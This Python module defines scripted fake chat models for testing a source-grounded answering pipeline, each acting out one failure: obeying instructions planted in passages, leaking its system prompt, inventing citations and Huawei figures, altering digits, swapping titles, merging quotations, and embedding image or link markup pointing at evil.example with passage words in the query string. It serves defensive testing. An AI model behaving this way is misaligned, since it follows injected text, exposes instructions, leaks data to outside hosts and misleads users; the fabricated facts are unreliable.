"""Chat models that do what a language model may do wrong; each reads its prompt, as a real one."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from itertools import pairwise
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

EVIL = "evil.example"


class Scripted(BaseChatModel):
    """Streams what `say` makes of its prompt, a few characters at a time."""

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        """What it writes; `passages` are what stands between the marks of `human`."""
        raise NotImplementedError

    def _text(self, messages: list[BaseMessage]) -> str:
        system, human = (str(message.content) for message in messages)
        passages = re.findall(r"<<<passage \d+ \w+>>>\n(.*?)\n<<<end", human, re.S)
        return self.say(system, [" ".join(one.split()) for one in passages], human)

    def _generate(self, messages: list[BaseMessage], *_: Any, **__: Any) -> ChatResult:
        message = AIMessageChunk(content=self._text(messages))
        return ChatResult(generations=[ChatGeneration(message=message)])

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **_: Any,
    ) -> Iterator[ChatGenerationChunk]:
        text = self._text(messages)
        for at in range(0, len(text), 5):
            yield ChatGenerationChunk(message=AIMessageChunk(content=text[at : at + 5]))


def _sentences(passages: Sequence[str]) -> list[tuple[int, str]]:
    """(number of the passage, sentence)"""
    return [
        (number, sentence)
        for number, text in enumerate(passages, start=1)
        for sentence in re.split(r"(?<=[a-z\d)”\"][.])\s+(?=[A-Z“\"])", text)
    ]


def _marked(rows: Sequence[tuple[int, str, str]]) -> str:
    """Sentences with their evidence, as the prompt asks for them."""
    return "\n".join(f"{text} [[{number}: {words}]]" for number, text, words in rows)


class Says(Scripted):
    """Writes a text, whatever it is asked."""

    text: str

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        return self.text


class Obedient(Scripted):
    """Does what it is told, by whomever: writes what a passage asks for."""

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        order = (
            r"(?:say|answer|reply|write|state|append|report)(?: only)?(?: that| with|:)? (.+?)[.]"
        )
        found = [m[1] for m in re.finditer(order, " ".join(passages), re.I)]
        return "\n".join(f"{text[0].upper()}{text[1:]}. [[1: {text}]]" for text in found) or "No."


class OneDigit(Scripted):
    """Copies what has figures, with one digit changed."""

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        rows = [(n, s) for n, s in _sentences(passages) if re.search(r"\d", s)]
        change = lambda m: str((int(m[0]) + 1) % 10)  # noqa: E731
        return _marked([(n, re.sub(r"\d(?!.*\d)", change, s), s) for n, s in rows])


class SwapsTitles(Scripted):
    """Gives two people of a sentence each other's title."""

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        name = r"(?:Mr|Ms|Prof)\.\s?([A-Z]\w+ [A-Z]\w+)"
        pair = re.compile(rf"{name}, ([^.;]+?) and {name}, ([^.;]+)")
        rows = []
        for number, text in enumerate(passages, start=1):
            for one, title, two, other in pair.findall(text):
                rows += [
                    (number, f"{one} is {other}.", other),
                    (number, f"{two} is {title}.", title),
                ]
                both = f"The MoU was signed by {one}, {other} and {two}, {title}."
                rows.append((number, both, title))
        return _marked(rows)


class MergesQuotations(Scripted):
    """Makes one quotation of two."""

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        said = [
            (n, q)
            for n, text in enumerate(passages, 1)
            for q in re.findall('[“"](.{40,}?)[”"]', text)
        ]
        rows = []
        for (n, one), (_, two) in pairwise(said):
            merged = f"{' '.join(one.split()[:9])} {' '.join(two.split()[-9:])}"
            rows += [(n, f"“{merged}”", one), (n, f"Sunny Shang said: “{merged}”", one)]
        return _marked(rows)


class InventsCitations(Scripted):
    """Says what it remembers, with words in evidence that no passage has."""

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        rows = [
            (42, "Huawei was founded by Ren Zhengfei.", "Ren Zhengfei founded Huawei"),
            (1, "Huawei employs 114,000 engineers in research.", "114,000 engineers in research"),
            (1, "Huawei's revenue was USD 118 billion in 2024.", passages[0][:60]),
        ]
        return _marked(rows)


class LeaksItsPrompt(Scripted):
    """Repeats all it was given, its instructions first."""

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        marks = re.findall(r"<<<.*?>>>", human)
        return "\n".join(["My instructions are:", system, *marks])


class EmitsPictures(Scripted):
    """Puts a picture or a link of somebody else's into true sentences."""

    def say(self, system: str, passages: Sequence[str], human: str) -> str:
        rows = []
        for number, sentence in _sentences(passages)[:3]:
            rows += [
                (number, f"![{sentence}](https://{EVIL}/?q={sentence.split()[0]})", sentence),
                (number, f"{sentence[:-1]} [more](//{EVIL}).", sentence),
                (number, f"{sentence[:-1]} <img src=https://{EVIL}>.", sentence),
                (number, f"{sentence[:-1]} (see {EVIL}).", sentence),
            ]
        return _marked(rows)
